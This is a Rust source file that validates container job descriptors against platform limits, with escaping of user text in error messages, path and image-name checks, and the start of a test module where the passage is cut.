//! Checks a job descriptor against the platform's limits and reports every problem at once.
//!
//! Security rule, learnt from Titus' history (a validation message that evaluated a user-supplied
//! constraint name led to remote code execution): user text enters a message or a field path only
//! through [`quoted`], which escapes it with Rust's `{:?}` and cuts it short. Nothing downstream
//! may then mistake it for markup, a template or a second log line.

use std::collections::BTreeMap;
use std::fmt;

use serde::{Deserialize, Serialize};
use serde_path_to_error::Segment;

use crate::job::{
    BatchJobSpec, Constraint, ConstraintError, ConstraintName, Constraints, Container,
    ContainerResources, HostMount, Image, JobDescriptor, RetryPolicy, SecurityProfile,
    ServiceJobSpec,
};

/// One problem with a descriptor: where (a dotted field path in the JSON's camelCase names, with
/// `[i]` or `["key"]` for collections, e.g. `container.resources.cpu`, `container.env["FOO"]`,
/// `container.hostMounts[0].hostPath`) and what was wrong.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FieldError {
    pub field: String,
    pub message: String,
}

impl FieldError {
    fn new(field: impl Into<String>, message: impl Into<String>) -> FieldError {
        FieldError {
            field: field.into(),
            message: message.into(),
        }
    }
}

impl fmt::Display for FieldError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.field, self.message)
    }
}

/// Platform limits; [`Default`] gives Titus' default limits.
///
/// Read as configuration, so a missing limit takes Titus' default and a misspelt one is an error
/// rather than silently ignored.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default, deny_unknown_fields)]
pub struct Limits {
    pub cpu_min: f64,
    pub cpu_max: f64,
    pub gpu_max: u32,
    pub memory_mb_min: u64,
    pub memory_mb_max: u64,
    pub disk_mb_min: u64,
    pub disk_mb_max: u64,
    pub network_mbps_min: u64,
    pub network_mbps_max: u64,
    pub batch_size_max: u32,
    pub service_max: u32,
    pub runtime_limit_sec_max: u64,
    /// Applies to batch jobs only: services are always replaced, so their policies may allow
    /// `u32::MAX` retries (the service default).
    pub retries_max: u32,
    pub retry_delay_ms_max: u64,
    pub env_max_count: usize,
    /// Total bytes of all names and values.
    pub env_max_bytes: usize,
    pub attributes_max_count: usize,
    pub attribute_key_max_len: usize,
    pub attribute_value_max_len: usize,
    /// For applicationName, capacityGroup and jobGroupInfo's stack, detail and sequence.
    pub name_max_len: usize,
    /// Entries in each of entryPoint and command.
    pub args_max_count: usize,
    /// Total bytes in each of entryPoint and command.
    pub args_max_bytes: usize,
    /// Entries in each of softConstraints and hardConstraints.
    pub constraints_max: usize,
    pub host_mounts_max: usize,
    pub kill_grace_period_sec_max: u32,
    pub descriptor_max_bytes: usize,
}

impl Limits {
    /// Titus' default limits.
    pub fn titus_defaults() -> Limits {
        Limits {
            cpu_min: 0.1,
            cpu_max: 96.0,
            gpu_max: 16,
            memory_mb_min: 512,
            memory_mb_max: 1_152_000,
            disk_mb_min: 10_000,
            disk_mb_max: 1_550_000,
            network_mbps_min: 128,
            network_mbps_max: 400_000,
            batch_size_max: 1_000,
            service_max: 10_000,
            runtime_limit_sec_max: 10 * 24 * 3600,
            retries_max: 1_000,
            retry_delay_ms_max: 24 * 3600 * 1000,
            env_max_count: 512,
            env_max_bytes: 32 * 1024,
            attributes_max_count: 128,
            attribute_key_max_len: 256,
            attribute_value_max_len: 2_048,
            name_max_len: 64,
            args_max_count: 256,
            args_max_bytes: 64 * 1024,
            constraints_max: 16,
            host_mounts_max: 16,
            kill_grace_period_sec_max: 600,
            descriptor_max_bytes: 256 * 1024,
        }
    }
}

impl Default for Limits {
    fn default() -> Self {
        Limits::titus_defaults()
    }
}

/// Why a submitted descriptor was refused.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
#[non_exhaustive]
pub enum ParseError {
    /// Over `limits.descriptor_max_bytes`.
    #[error("job descriptor is {size_bytes} bytes, expected at most {max_bytes}")]
    TooLarge { size_bytes: usize, max_bytes: usize },
    /// Not JSON, a wrong type, a missing or an unknown field. `field` is where (`(root)` for the
    /// document itself); the message names what was wrong and what was expected.
    #[error("{field}: {message}")]
    Malformed { field: String, message: String },
    /// Well-formed but invalid: every problem found.
    #[error("{}", summarize(.0))]
    Invalid(Vec<FieldError>),
}

impl ParseError {
    /// The error as field errors, the shape an API response reports.
    pub fn field_errors(&self) -> Vec<FieldError> {
        match self {
            ParseError::TooLarge { .. } => vec![FieldError::new(BODY_FIELD, self.to_string())],
            ParseError::Malformed { field, message } => {
                vec![FieldError::new(field.clone(), message.clone())]
            }
            ParseError::Invalid(errors) => errors.clone(),
        }
    }
}

/// The field name of problems with the document as a whole.
const ROOT_FIELD: &str = "(root)";
/// The field name of problems with the request body itself, before it is read as JSON.
const BODY_FIELD: &str = "(body)";
/// How much of a user's text a message quotes.
const QUOTED_MAX_CHARS: usize = 64;
/// How many problems `ParseError::Invalid`'s message lists; the variant itself keeps them all.
const SUMMARY_MAX_PROBLEMS: usize = 10;
/// A bound on a serde message, whatever it quotes.
const MALFORMED_MESSAGE_MAX_CHARS: usize = 1_024;

const EMAIL_MAX_CHARS: usize = 254;
/// Docker's limit on a whole image name, registry included.
const IMAGE_NAME_MAX_CHARS: usize = 255;
const IMAGE_TAG_MAX_CHARS: usize = 128;
const SECURITY_GROUPS_MAX: usize = 16;
const IAM_ROLE_MAX_CHARS: usize = 2_048;
/// Environment names the platform sets itself; a job must not override them.
const RESERVED_ENV_PREFIX: &str = "TITUS_";

fn summarize(errors: &[FieldError]) -> String {
    if errors.is_empty() {
        return "job descriptor is invalid".to_owned();
    }
    let noun = if errors.len() == 1 {
        "problem"
    } else {
        "problems"
    };
    let shown: Vec<String> = errors
        .iter()
        .take(SUMMARY_MAX_PROBLEMS)
        .map(FieldError::to_string)
        .collect();
    let mut text = format!(
        "job descriptor has {} {noun}: {}",
        errors.len(),
        shown.join("; ")
    );
    if errors.len() > SUMMARY_MAX_PROBLEMS {
        text.push_str(&format!(
            "; and {} more",
            errors.len() - SUMMARY_MAX_PROBLEMS
        ));
    }
    text
}

/// The only way user text may enter a message or a field path: escaped by `{:?}` (quotes,
/// newlines and control characters cannot break out) and cut to [`QUOTED_MAX_CHARS`] so a huge
/// value cannot bloat the error.
pub fn quoted(text: &str) -> String {
    match text.char_indices().nth(QUOTED_MAX_CHARS) {
        None => format!("{text:?}"),
        Some((cut, _)) => format!("{:?}…", &text[..cut]),
    }
}

/// Size check, then JSON through `serde_path_to_error` (so an error says where), then
/// [`validate`].
pub fn parse_descriptor(json: &[u8], limits: &Limits) -> Result<JobDescriptor, ParseError> {
    if json.len() > limits.descriptor_max_bytes {
        return Err(ParseError::TooLarge {
            size_bytes: json.len(),
            max_bytes: limits.descriptor_max_bytes,
        });
    }
    let mut deserializer = serde_json::Deserializer::from_slice(json);
    let descriptor: JobDescriptor =
        serde_path_to_error::deserialize(&mut deserializer).map_err(|error| {
            let segments: Vec<&Segment> = error.path().iter().collect();
            malformed(&segments, error.inner())
        })?;
    // Trailing bytes after the document would otherwise be ignored.
    deserializer.end().map_err(|error| malformed(&[], &error))?;
    validate(&descriptor, limits).map_err(ParseError::Invalid)?;
    Ok(descriptor)
}

fn malformed(path: &[&Segment], error: &serde_json::Error) -> ParseError {
    let raw = error.to_string();
    let message = match error.classify() {
        // Syntax messages carry no user text, and the position is all that says where.
        serde_json::error::Category::Syntax | serde_json::error::Category::Eof => {
            format!("not valid JSON: {raw}")
        }
        serde_json::error::Category::Data | serde_json::error::Category::Io => {
            sanitize_serde_message(strip_position(&raw))
        }
    };
    // serde_path_to_error ends an unknown field's path with the field's own name; the message
    // names it, so the path says only where it was.
    let path = match path.split_last() {
        Some((_, parent)) if raw.starts_with("unknown field `") => parent,
        _ => path,
    };
    ParseError::Malformed {
        field: render_path(path),
        message,
    }
}

/// Renders a serde path in the same notation as [`FieldError::field`]. Struct fields print as
/// `.name`; keys of the descriptor's maps are user text, so they print quoted as `["key"]`.
fn render_path(path: &[&Segment]) -> String {
    // The descriptor's fields whose values are maps with user-chosen keys.
    const USER_MAP_FIELDS: [&str; 3] = ["attributes", "env", "constraints"];
    let mut out = String::new();
    let mut parent_is_user_map = false;
    for segment in path {
        match *segment {
            Segment::Seq { index } => {
                out.push_str(&format!("[{index}]"));
                parent_is_user_map = false;
            }
            Segment::Map { key } | Segment::Enum { variant: key } => {
                if !parent_is_user_map && is_field_name(key) {
                    if !out.is_empty() {
                        out.push('.');
                    }
                    out.push_str(key);
                    parent_is_user_map = USER_MAP_FIELDS.contains(&key.as_str());
                } else {
                    out.push_str(&format!("[{}]", quoted(key)));
                    parent_is_user_map = false;
                }
            }
            // A key that failed to parse: the path so far says where.
            Segment::Unknown => parent_is_user_map = false,
        }
    }
    if out.is_empty() {
        ROOT_FIELD.to_owned()
    } else {
        out
    }
}

/// Whether a path segment has the shape of one of the descriptor's own (camelCase) field names;
/// anything else is printed quoted, whatever its origin.
fn is_field_name(key: &str) -> bool {
    let mut chars = key.chars();
    key.len() <= QUOTED_MAX_CHARS
        && chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric())
}

/// serde_json appends " at line X column Y"; the field path already says where.
fn strip_position(message: &str) -> &str {
    let marker = " at line ";
    let Some(at) = message.rfind(marker) else {
        return message;
    };
    let is_number = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit());
    match message[at + marker.len()..].split_once(" column ") {
        Some((line, column)) if is_number(line) && is_number(column) => &message[..at],
        _ => message,
    }
}

/// Makes a serde data error obey the quoting rule. serde prints an unknown field or variant name
/// raw between backticks (so a name holding a newline or `${...}` would pass through), and quotes
/// string values with `{:?}` but at any length.
fn sanitize_serde_message(message: &str) -> String {
    for (prefix, noun) in [
        ("unknown field `", "unknown field"),
        ("unknown variant `", "unknown variant"),
    ] {
        let Some(rest) = message.strip_prefix(prefix) else {
            continue;
        };
        // The text after the name lists static names only, so the last separator is the real one,
        // even if the user's name itself contains "`, expected".
        let end = ["`, expected ", "`, there are no "]
            .iter()
            .filter_map(|separator| rest.rfind(separator))
            .max();
        if let Some(end) = end {
            let (name, tail) = rest.split_at(end);
            return format!("{noun} {}{}", quoted(name), &tail[1..]);
        }
        return format!("{noun} {}", quoted(rest.trim_end_matches('`')));
    }
    cap_chars(
        &shorten_quoted_strings(message),
        MALFORMED_MESSAGE_MAX_CHARS,
    )
}

/// Cuts each `{:?}`-quoted string in `message` to [`QUOTED_MAX_CHARS`] characters, keeping
/// escapes whole.
fn shorten_quoted_strings(message: &str) -> String {
    let mut out = String::with_capacity(message.len().min(MALFORMED_MESSAGE_MAX_CHARS));
    let mut chars = message.chars();
    while let Some(c) = chars.next() {
        out.push(c);
        if c != '"' {
            continue;
        }
        let mut length = 0usize;
        loop {
            let Some(c) = chars.next() else {
                return out;
            };
            if c == '"' {
                out.push('"');
                if length > QUOTED_MAX_CHARS {
                    out.push('…');
                }
                break;
            }
            let mut unit = String::from(c);
            if c == '\\' {
                if let Some(escaped) = chars.next() {
                    unit.push(escaped);
                    if escaped == 'u' {
                        for digit in chars.by_ref() {
                            unit.push(digit);
                            if digit == '}' {
                                break;
                            }
                        }
                    }
                }
            }
            length += 1;
            if length <= QUOTED_MAX_CHARS {
                out.push_str(&unit);
            }
        }
    }
    out
}

fn cap_chars(text: &str, max_chars: usize) -> String {
    match text.char_indices().nth(max_chars) {
        None => text.to_owned(),
        Some((cut, _)) => format!("{}…", &text[..cut]),
    }
}

/// Checks every rule and returns every problem at once, or `Ok`.
pub fn validate(descriptor: &JobDescriptor, limits: &Limits) -> Result<(), Vec<FieldError>> {
    let mut problems = Problems {
        errors: Vec::new(),
        limits,
    };
    problems.check_descriptor(descriptor);
    if problems.errors.is_empty() {
        Ok(())
    } else {
        Err(problems.errors)
    }
}

struct Problems<'a> {
    errors: Vec<FieldError>,
    limits: &'a Limits,
}

impl Problems<'_> {
    fn push(&mut self, field: impl Into<String>, message: impl Into<String>) {
        self.errors.push(FieldError::new(field, message));
    }

    fn check_descriptor(&mut self, descriptor: &JobDescriptor) {
        self.check_email("owner.teamEmail", &descriptor.owner.team_email);
        self.check_name("applicationName", &descriptor.application_name);
        self.check_name("capacityGroup", &descriptor.capacity_group);
        let group = &descriptor.job_group_info;
        self.check_group_part("jobGroupInfo.stack", &group.stack);
        self.check_group_part("jobGroupInfo.detail", &group.detail);
        self.check_group_part("jobGroupInfo.sequence", &group.sequence);
        self.check_attributes("attributes", &descriptor.attributes);
        self.check_container(&descriptor.container);
        match (&descriptor.batch, &descriptor.service) {
            (Some(batch), None) => self.check_batch(batch),
            (None, Some(service)) => self.check_service(service),
            (Some(_), Some(_)) => self.push(
                ROOT_FIELD,
                "exactly one of \"batch\" or \"service\" must be set, got both",
            ),
            (None, None) => self.push(
                ROOT_FIELD,
                "exactly one of \"batch\" or \"service\" must be set, got neither",
            ),
        }
    }

    fn check_email(&mut self, field: &str, email: &str) {
        let length = email.chars().count();
        if email.is_empty() {
            self.push(
                field,
                "is required, expected an email address such as \"team@example.com\"",
            );
        } else if length > EMAIL_MAX_CHARS {
            self.push(
                field,
                format!("must be at most {EMAIL_MAX_CHARS} characters, got {length}"),
            );
        } else if !is_email_like(email) {
            self.push(
                field,
                format!(
                    "must be an email address such as \"team@example.com\", got {}",
                    quoted(email)
                ),
            );
        }
    }

    /// applicationName and capacityGroup.
    fn check_name(&mut self, field: &str, name: &str) {
        let max = self.limits.name_max_len;
        let length = name.chars().count();
        let valid_chars = name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'));
        if name.is_empty() {
            self.push(
                field,
                format!(
                    "is required, expected 1 to {max} letters, digits, '_', '.' or '-', \
                     starting with a letter or digit"
                ),
            );
        } else if length > max {
            self.push(
                field,
                format!("must be at most {max} characters, got {length}"),
            );
        } else if !valid_chars || !name.starts_with(|c: char| c.is_ascii_alphanumeric()) {
            self.push(
                field,
                format!(
                    "must be letters, digits, '_', '.' or '-', starting with a letter or digit, \
                     got {}",
                    quoted(name)
                ),
            );
        }
    }

    /// stack, detail and sequence: no '-', because '-' joins them into the job group's name.
    fn check_group_part(&mut self, field: &str, part: &str) {
        let max = self.limits.name_max_len;
        let length = part.chars().count();
        if length > max {
            self.push(
                field,
                format!("must be at most {max} characters, got {length}"),
            );
        } else if !part
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'))
        {
            self.push(
                field,
                format!(
                    "must be empty or letters, digits, '_' or '.', got {}",
                    quoted(part)
                ),
            );
        }
    }

    fn check_attributes(&mut self, field: &str, attributes: &BTreeMap<String, String>) {
        let limits = self.limits;
        self.check_count(field, attributes.len(), limits.attributes_max_count);
        for (key, value) in attributes {
            let entry = format!("{field}[{}]", quoted(key));
            let key_length = key.chars().count();
            let value_length = value.chars().count();
            if key.is_empty() {
                self.push(&entry, "key must not be empty");
            } else if key_length > limits.attribute_key_max_len {
                self.push(
                    &entry,
                    format!(
                        "key must be at most {} characters, got {key_length}",
                        limits.attribute_key_max_len
                    ),
                );
            }
            if value_length > limits.attribute_value_max_len {
                self.push(
                    &entry,
                    format!(
                        "value must be at most {} characters, got {value_length}",
                        limits.attribute_value_max_len
                    ),
                );
            }
        }
    }

    fn check_count(&mut self, field: &str, count: usize, max: usize) {
        if count > max {
            self.push(
                field,
                format!("must have at most {max} entries, got {count}"),
            );
        }
    }

    fn check_container(&mut self, container: &Container) {
        let limits = self.limits;
        self.check_resources(&container.resources);
        self.check_image(&container.image);
        self.check_args("container.entryPoint", &container.entry_point);
        self.check_args("container.command", &container.command);
        self.check_env(&container.env);
        self.check_constraints(&container.soft_constraints, &container.hard_constraints);
        self.check_security_profile(&container.security_profile);
        if container.kill_grace_period_sec > limits.kill_grace_period_sec_max {
            self.push(
                "container.killGracePeriodSec",
                format!(
                    "must be at most {}, got {}",
                    limits.kill_grace_period_sec_max, container.kill_grace_period_sec
                ),
            );
        }
        self.check_host_mounts(&container.host_mounts);
    }

    fn check_resources(&mut self, resources: &ContainerResources) {
        let limits = self.limits;
        let cpu = resources.cpu;
        // NaN fails both comparisons; infinities are out of any finite range but are named anyway.
        if !(cpu.is_finite() && cpu >= limits.cpu_min && cpu <= limits.cpu_max) {
            self.push(
                "container.resources.cpu",
                format!(
                    "must be between {} and {}, got {cpu}",
                    limits.cpu_min, limits.cpu_max
                ),
            );
        }
        if resources.gpu > limits.gpu_max {
            self.push(
                "container.resources.gpu",
                format!("must be at most {}, got {}", limits.gpu_max, resources.gpu),
            );
        }
        self.check_range(
            "container.resources.memoryMB",
            resources.memory_mb,
            limits.memory_mb_min,
            limits.memory_mb_max,
        );
        self.check_range(
            "container.resources.diskMB",
            resources.disk_mb,
            limits.disk_mb_min,
            limits.disk_mb_max,
        );
        self.check_range(
            "container.resources.networkMbps",
            resources.network_mbps,
            limits.network_mbps_min,
            limits.network_mbps_max,
        );
    }

    fn check_range(&mut self, field: &str, value: u64, min: u64, max: u64) {
        if !(min..=max).contains(&value) {
            self.push(
                field,
                format!("must be between {min} and {max}, got {value}"),
            );
        }
    }

    fn check_image(&mut self, image: &Image) {
        if image.name.is_empty() {
            self.push(
                "container.image.name",
                "is required, expected a Docker image name such as \"registry.example.com/team/app\"",
            );
        } else if let Err(reason) = check_image_name(&image.name) {
            self.push(
                "container.image.name",
                format!(
                    "must be a Docker image name such as \"registry.example.com/team/app\": \
                     {reason}, got {}",
                    quoted(&image.name)
                ),
            );
        }
        if let Some(tag) = &image.tag {
            if !is_image_tag(tag) {
                self.push(
                    "container.image.tag",
                    format!(
                        "must be 1 to {IMAGE_TAG_MAX_CHARS} letters, digits, '_', '.' or '-', \
                         not starting with '.' or '-', got {}",
                        quoted(tag)
                    ),
                );
            }
        }
        if let Some(digest) = &image.digest {
            if !is_sha256_digest(digest) {
                self.push(
                    "container.image.digest",
                    format!(
                        "must be \"sha256:\" followed by 64 lowercase hex digits, got {}",
                        quoted(digest)
                    ),
                );
            }
        }
        if image.tag.is_some() && image.digest.is_some() {
            self.push(
                "container.image",
                "set \"tag\" or \"digest\", not both: a digest already names one exact image",
            );
        }
    }

    fn check_args(&mut self, field: &str, args: &[String]) {
        let limits = self.limits;
        self.check_count(field, args.len(), limits.args_max_count);
        let total_bytes: usize = args.iter().map(String::len).sum();
        if total_bytes > limits.args_max_bytes {
            self.push(
                field,
                format!(
                    "must total at most {} bytes, got {total_bytes}",
                    limits.args_max_bytes
                ),
            );
        }
        for (index, arg) in args.iter().enumerate() {
            if arg.contains('\0') {
                self.push(
                    format!("{field}[{index}]"),
                    "must not contain a NUL byte, expected text a process argument can hold",
                );
            }
        }
    }

    fn check_env(&mut self, env: &BTreeMap<String, String>) {
        let limits = self.limits;
        let field = "container.env";
        self.check_count(field, env.len(), limits.env_max_count);
        let total_bytes: usize = env.iter().map(|(key, value)| key.len() + value.len()).sum();
        if total_bytes > limits.env_max_bytes {
            self.push(
                field,
                format!(
                    "names and values must total at most {} bytes, got {total_bytes}",
                    limits.env_max_bytes
                ),
            );
        }
        for (key, value) in env {
            let entry = format!("{field}[{}]", quoted(key));
            if !is_env_name(key) {
                self.push(
                    &entry,
                    "name must start with a letter or '_' and hold only letters, digits and '_'",
                );
            } else if key.starts_with(RESERVED_ENV_PREFIX) {
                self.push(
                    &entry,
                    format!(
                        "names starting with {RESERVED_ENV_PREFIX:?} are reserved for the \
                         platform, expected another name"
                    ),
                );
            }
            if value.contains('\0') {
                self.push(
                    &entry,
                    "value must not contain a NUL byte, expected text an environment can hold",
                );
            }
        }
    }

    fn check_constraints(&mut self, soft: &Constraints, hard: &Constraints) {
        let soft_names = self.check_constraint_set("container.softConstraints.constraints", soft);
        let hard_names = self.check_constraint_set("container.hardConstraints.constraints", hard);
        for (name, soft_key) in &soft_names {
            if hard_names.contains_key(name) {
                self.push(
                    format!(
                        "container.softConstraints.constraints[{}]",
                        quoted(soft_key)
                    ),
                    format!(
                        "constraint {name} is also a hard constraint, expected it as hard or \
                         soft, not both"
                    ),
                );
            }
        }
    }

    /// Checks one constraint map; returns its known names with the key each was given as.
    fn check_constraint_set<'c>(
        &mut self,
        field: &str,
        constraints: &'c Constraints,
    ) -> BTreeMap<ConstraintName, &'c str> {
        let limits = self.limits;
        self.check_count(field, constraints.constraints.len(), limits.constraints_max);
        let mut known: BTreeMap<ConstraintName, &'c str> = BTreeMap::new();
        for (key, value) in &constraints.constraints {
            let entry = format!("{field}[{}]", quoted(key));
            if let Err(error) = Constraint::parse_entry(key, value) {
                self.push(&entry, constraint_message(&error));
            }
            let Some(name) = ConstraintName::parse(key) else {
                continue;
            };
            // Names ignore case, so two keys can name one constraint with conflicting values.
            if let Some(first_key) = known.insert(name, key) {
                self.push(
                    &entry,
                    format!(
                        "constraint {name} is already set as {} (names ignore case), expected it \
                         once",
                        quoted(first_key)
                    ),
                );
            }
        }
        known
    }

    fn check_security_profile(&mut self, profile: &SecurityProfile) {
        let field = "container.securityProfile.securityGroups";
        self.check_count(field, profile.security_groups.len(), SECURITY_GROUPS_MAX);
        for (index, group) in profile.security_groups.iter().enumerate() {
            if !is_security_group_id(group) {
                self.push(
                    format!("{field}[{index}]"),
                    format!(
                        "must be a security group id, \"sg-\" followed by 8 or 17 lowercase hex \
                         digits, got {}",
                        quoted(group)
                    ),
                );
            }
        }
        let role = &profile.iam_role;
        let role_length = role.chars().count();
        if role_length > IAM_ROLE_MAX_CHARS {
            self.push(
                "container.securityProfile.iamRole",
                format!("must be at most {IAM_ROLE_MAX_CHARS} characters, got {role_length}"),
            );
        } else if role.chars().any(|c| c.is_whitespace() || c.is_control()) {
            self.push(
                "container.securityProfile.iamRole",
                format!(
                    "must be a role name or ARN without whitespace, got {}",
                    quoted(role)
                ),
            );
        }
        self.check_attributes("container.securityProfile.attributes", &profile.attributes);
    }

    fn check_host_mounts(&mut self, mounts: &[HostMount]) {
        let field = "container.hostMounts";
        self.check_count(field, mounts.len(), self.limits.host_mounts_max);
        for (index, mount) in mounts.iter().enumerate() {
            self.check_mount_path(&format!("{field}[{index}].hostPath"), &mount.host_path);
            self.check_mount_path(
                &format!("{field}[{index}].containerPath"),
                &mount.container_path,
            );
        }
    }

    fn check_mount_path(&mut self, field: &str, path: &str) {
        if path.contains('\0') {
            self.push(
                field,
                format!(
                    "must not contain a NUL byte, expected an absolute path, got {}",
                    quoted(path)
                ),
            );
        } else if !path.starts_with('/') {
            self.push(
                field,
                format!(
                    "must be an absolute path starting with '/', got {}",
                    quoted(path)
                ),
            );
        } else if path.split('/').any(|component| component == "..") {
            // ".." would let a mount escape the directory it names.
            self.push(
                field,
                format!(
                    "must not contain a \"..\" component, expected a direct path, got {}",
                    quoted(path)
                ),
            );
        }
    }

    fn check_batch(&mut self, batch: &BatchJobSpec) {
        let limits = self.limits;
        if !(1..=limits.batch_size_max).contains(&batch.size) {
            self.push(
                "batch.size",
                format!(
                    "must be between 1 and {}, got {}",
                    limits.batch_size_max, batch.size
                ),
            );
        }
        self.check_range(
            "batch.runtimeLimitSec",
            batch.runtime_limit_sec,
            1,
            limits.runtime_limit_sec_max,
        );
        self.check_retry_policy(
            "batch.retryPolicy",
            &batch.retry_policy,
            Some(limits.retries_max),
        );
    }

    fn check_service(&mut self, service: &ServiceJobSpec) {
        let limits = self.limits;
        let capacity = service.capacity;
        if capacity.min > capacity.max {
            self.push(
                "service.capacity.min",
                format!("must be at most max {}, got {}", capacity.max, capacity.min),
            );
        } else if !(capacity.min..=capacity.max).contains(&capacity.desired) {
            self.push(
                "service.capacity.desired",
                format!(
                    "must be between min {} and max {}, got {}",
                    capacity.min, capacity.max, capacity.desired
                ),
            );
        }
        if capacity.max > limits.service_max {
            self.push(
                "service.capacity.max",
                format!(
                    "must be at most {}, got {}",
                    limits.service_max, capacity.max
                ),
            );
        }
        // Services are always replaced, so their retry count is not limited.
        self.check_retry_policy("service.retryPolicy", &service.retry_policy, None);
    }

    fn check_retry_policy(&mut self, field: &str, policy: &RetryPolicy, retries_max: Option<u32>) {
        let delay_max = self.limits.retry_delay_ms_max;
        let (variant, retries) = match *policy {
            RetryPolicy::Immediate { retries } => ("immediate", retries),
            RetryPolicy::Delayed {
                initial_delay_ms,
                delay_ms,
                retries,
            } => {
                self.check_at_most(
                    &format!("{field}.delayed.initialDelayMs"),
                    initial_delay_ms,
                    delay_max,
                );
                self.check_at_most(&format!("{field}.delayed.delayMs"), delay_ms, delay_max);
                ("delayed", retries)
            }
            RetryPolicy::ExponentialBackOff {
                initial_delay_ms,
                max_delay_interval_ms,
                retries,
            } => {
                let initial_field = format!("{field}.exponentialBackOff.initialDelayMs");
                if initial_delay_ms == 0 {
                    // Doubling zero stays zero: the policy would retry at once, forever.
                    self.push(
                        &initial_field,
                        "must be at least 1, got 0: a zero delay never backs off",
                    );
                } else if initial_delay_ms > max_delay_interval_ms {
                    self.push(
                        &initial_field,
                        format!(
                            "must be at most maxDelayIntervalMs {max_delay_interval_ms}, \
                             got {initial_delay_ms}"
                        ),
                    );
                }
                self.check_at_most(
                    &format!("{field}.exponentialBackOff.maxDelayIntervalMs"),
                    max_delay_interval_ms,
                    delay_max,
                );
                ("exponentialBackOff", retries)
            }
        };
        if let Some(max) = retries_max {
            if retries > max {
                self.push(
                    format!("{field}.{variant}.retries"),
                    format!("must be at most {max}, got {retries}"),
                );
            }
        }
    }

    fn check_at_most(&mut self, field: &str, value: u64, max: u64) {
        if value > max {
            self.push(field, format!("must be at most {max}, got {value}"));
        }
    }
}

/// [`ConstraintError`]'s own messages quote user text but do not bound it, so they are rebuilt
/// here with [`quoted`].
fn constraint_message(error: &ConstraintError) -> String {
    match error {
        ConstraintError::UnknownName { name, expected } => format!(
            "unknown constraint {}, expected one of {expected} (case-insensitive)",
            quoted(name)
        ),
        ConstraintError::NotBoolean { name, value } => format!(
            "constraint {name} takes \"true\" or \"false\", got {}",
            quoted(value)
        ),
        ConstraintError::EmptyValue { name } => {
            format!("constraint {name} needs a non-empty value, got an empty one")
        }
    }
}

fn is_email_like(email: &str) -> bool {
    if email.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return false;
    }
    let Some((local, domain)) = email.split_once('@') else {
        return false;
    };
    !local.is_empty()
        && !domain.contains('@')
        && domain.contains('.')
        && domain.split('.').all(|label| !label.is_empty())
}

/// Docker's reference grammar, simplified: an optional registry host, then `/`-separated path
/// components of lowercase letters and digits joined by `.`, `_`, `__` or runs of `-`.
fn check_image_name(name: &str) -> Result<(), String> {
    let length = name.chars().count();
    if length > IMAGE_NAME_MAX_CHARS {
        return Err(format!(
            "at most {IMAGE_NAME_MAX_CHARS} characters are allowed, got {length}"
        ));
    }
    // As in Docker, the first component is a registry only if it cannot be a path component.
    let path = match name.split_once('/') {
        Some((first, rest)) if first.contains(['.', ':']) || first == "localhost" => {
            if !is_registry_host(first) {
                return Err(
                    "the registry must be a host name with an optional numeric :port".to_owned(),
                );
            }
            rest
        }
        _ => name,
    };
    if path.split('/').all(is_path_component) {
        Ok(())
    } else {
        Err(
            "each path component must be lowercase letters and digits, joined by '.', '_', '__' \
             or '-'"
                .to_owned(),
        )
    }
}

fn is_registry_host(host: &str) -> bool {
    let (hostname, port) = match host.split_once(':') {
        Some((hostname, port)) => (hostname, Some(port)),
        None => (host, None),
    };
    let hostname_ok = hostname.split('.').all(|label| {
        !label.is_empty()
            && !label.starts_with('-')
            && !label.ends_with('-')
            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
    });
    let port_ok = port.is_none_or(|port| {
        (1..=5).contains(&port.len()) && port.bytes().all(|b| b.is_ascii_digit())
    });
    hostname_ok && port_ok
}

fn is_path_component(component: &str) -> bool {
    let bytes = component.as_bytes();
    let is_alphanumeric = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    let mut i = 0;
    loop {
        let run_start = i;
        while i < bytes.len() && is_alphanumeric(bytes[i]) {
            i += 1;
        }
        if i == run_start {
            // Empty component, or a separator at the start, the end, or after a separator.
            return false;
        }
        if i == bytes.len() {
            return true;
        }
        match bytes[i] {
            b'.' => i += 1,
            b'_' => {
                i += 1;
                if bytes.get(i) == Some(&b'_') {
                    i += 1;
                }
            }
            b'-' => {
                while bytes.get(i) == Some(&b'-') {
                    i += 1;
                }
            }
            _ => return false,
        }
    }
}

fn is_image_tag(tag: &str) -> bool {
    tag.len() <= IMAGE_TAG_MAX_CHARS
        && tag
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
        && tag
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
}

fn is_lowercase_hex(text: &str) -> bool {
    text.bytes()
        .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
}

fn is_sha256_digest(digest: &str) -> bool {
    digest
        .strip_prefix("sha256:")
        .is_some_and(|hex| hex.len() == 64 && is_lowercase_hex(hex))
}

fn is_security_group_id(group: &str) -> bool {
    group
        .strip_prefix("sg-")
        .is_some_and(|hex| matches!(hex.len(), 8 | 17) && is_lowercase_hex(hex))
}

fn is_env_name(name: &str) -> bool {
    name.chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

#[cfg(test)]
mod tests {
    use serde_json::{json, Value};

    use super::*;
    use crate::job::{
        BatchJobSpec, Capacity, DEFAULT_CAPACITY_GROUP, DEFAULT_KILL_GRACE_PERIOD_SEC,
        DEFAULT_RUNTIME_LIMIT_SEC,
    };

    fn minimal_batch() -> Value {
        json!({
            "owner": {"teamEmail": "team@example.com"},
            "applicationName": "myapp",
            "container": {"image": {"name": "alpine"}},
            "batch": {}
        })
    }

    /// Merges `patch` into `base`: objects merge key by key, `null` removes a key.
    fn merge(base: &mut Value, patch: Value) {
        match (base, patch) {
